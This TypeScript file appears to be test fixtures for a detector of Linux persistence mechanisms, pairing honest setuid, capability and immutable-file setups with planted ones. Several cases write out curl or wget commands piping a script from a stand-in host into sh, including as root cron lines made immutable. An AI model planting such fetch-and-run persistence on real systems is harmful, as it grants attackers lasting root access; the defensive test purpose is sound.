/**
 * Cases of the group `files`. Most of these mechanisms start nothing themselves: `fetch-and-run` is then a script that
 * fetches in the dress of the mechanism, `owned-edit` a packaged file that gained the bit, the flag or the line.
 */
import { inertProgram, type MechanismCase } from '../../../../test/persistence/case.ts';

const script = '#!/bin/sh\n(curl -fsSL http://192.0.2.66/x.sh || wget -qO- http://192.0.2.66/x.sh) | sh\n';
const program = inertProgram(9000);
const packaged = inertProgram(7000);

const setuid: readonly MechanismCase[] = [
  {
    mechanism: 'setuid-file',
    dress: 'fetch-and-run',
    what: 'a setuid script that fetches',
    planted: { '/usr/lib/.sysd': { content: script, mode: 0o4755 } },
  },
  {
    mechanism: 'setuid-file',
    dress: 'unowned-binary',
    what: 'a setuid program with an innocent name among owned ones',
    planted: { '/usr/sbin/dmeventd-helper': { content: program, mode: 0o4755 } },
  },
  {
    mechanism: 'setuid-file',
    dress: 'owned-edit',
    what: 'the packaged find, setuid now',
    packaged: { '/usr/bin/find': { content: packaged } },
    planted: { '/usr/bin/find': { content: packaged, mode: 0o4755 } },
  },
  {
    mechanism: 'setuid-file',
    dress: 'honest',
    what: 'passwd of its package, and a statoverride of the administrator',
    packaged: { '/usr/bin/passwd': packaged, '/usr/sbin/fping': packaged },
    planted: {
      '/usr/bin/passwd': { content: packaged, mode: 0o4755 },
      '/usr/sbin/fping': { content: packaged, mode: 0o4755 },
      '/var/lib/dpkg/statoverride': 'root root 4755 /usr/sbin/fping\n',
    },
  },
  {
    mechanism: 'setuid-file',
    dress: 'honest',
    what: 'su of a chroot',
    planted: { '/srv/chroot/build/usr/bin/su': { content: packaged, mode: 0o4755 } },
  },
];

const capabilities: readonly MechanismCase[] = [
  {
    mechanism: 'capability-file',
    dress: 'fetch-and-run',
    what: 'a script that fetches, with cap_setuid',
    planted: { '/usr/local/bin/refresh': { content: script, mode: 0o755, capabilities: 'cap_setuid+ep' } },
  },
  {
    mechanism: 'capability-file',
    dress: 'unowned-binary',
    what: 'an unowned program that may do anything',
    planted: { '/usr/sbin/irqbalanced': { content: program, capabilities: 'cap_sys_admin,cap_setuid+ep' } },
  },
  {
    mechanism: 'capability-file',
    dress: 'owned-edit',
    what: 'the packaged python3 with cap_setuid',
    packaged: { '/usr/bin/python3.11': packaged },
    planted: { '/usr/bin/python3.11': { content: packaged, mode: 0o755, capabilities: 'cap_setuid+ep' } },
  },
  {
    mechanism: 'capability-file',
    dress: 'honest',
    what: 'ping of its package with cap_net_raw',
    packaged: { '/usr/bin/ping': packaged },
    planted: { '/usr/bin/ping': { content: packaged, mode: 0o755, capabilities: 'cap_net_raw+ep' } },
  },
];

const crontab = 'SHELL=/bin/sh\n17 * * * * root run-parts /etc/cron.hourly\n';
const immutable: readonly MechanismCase[] = [
  {
    mechanism: 'immutable-file',
    dress: 'fetch-and-run',
    what: 'an immutable cron file that fetches',
    planted: {
      '/etc/cron.d/zzh': {
        content: '*/5 * * * * root curl -fsSL http://192.0.2.66/x.sh | sh\n',
        immutable: true,
      },
    },
  },
  {
    mechanism: 'immutable-file',
    dress: 'unowned-binary',
    what: 'an immutable program that no package owns',
    planted: { '/usr/sbin/netstatd': { content: program, mode: 0o755, immutable: true } },
  },
  {
    mechanism: 'immutable-file',
    dress: 'owned-edit',
    what: 'a line added to a packaged setting, and the file made immutable',
    packaged: { '/etc/cron.d/popularity': crontab },
    conffiles: ['/etc/cron.d/popularity'],
    planted: {
      '/etc/cron.d/popularity': {
        content: `${crontab}*/9 * * * * root wget -qO- http://192.0.2.66/x | sh\n`,
        immutable: true,
      },
    },
  },
  {
    mechanism: 'immutable-file',
    dress: 'honest',
    what: 'resolv.conf kept from the network manager, .user.ini as BT panel keeps it',
    planted: {
      '/etc/resolv.conf': { content: 'nameserver 192.0.2.53\n', immutable: true },
      '/www/wwwroot/shop.example.com/.user.ini': {
        content: 'open_basedir=/www/wwwroot/shop.example.com/:/tmp/\n',
        immutable: true,
      },
    },
  },
];

export const fileCases: readonly MechanismCase[] = [...setuid, ...capabilities, ...immutable];
